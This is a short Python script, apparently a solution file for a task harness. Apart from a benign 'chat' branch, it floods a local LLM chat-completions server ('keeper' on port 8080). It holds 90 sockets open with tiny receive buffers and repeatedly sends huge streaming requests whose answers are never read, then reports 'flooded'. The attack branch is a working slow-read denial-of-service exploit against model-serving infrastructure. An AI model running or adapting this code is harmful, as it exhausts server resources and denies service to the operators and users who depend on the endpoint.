import json
import socket

# Long answers that nobody reads, asked for on every connection again and again.
BODY = json.dumps({"model": "keeper", "stream": True, "messages": [{"role": "user", "content": "y" * 15_000}]}).encode()
ASK = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: " + str(len(BODY)).encode() + b"\r\n\r\n" + BODY


def solve(task, target):
    if task["input"] == "chat":
        return target.chat([{"role": "user", "content": "hello"}])
    held = []
    for _ in range(90):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        one.settimeout(0.2)
        one.connect(("127.0.0.1", 8080))
        held.append(one)
    for _ in range(3):
        for one in held:
            try:
                one.sendall(ASK)
            except OSError:
                pass
    return "flooded"
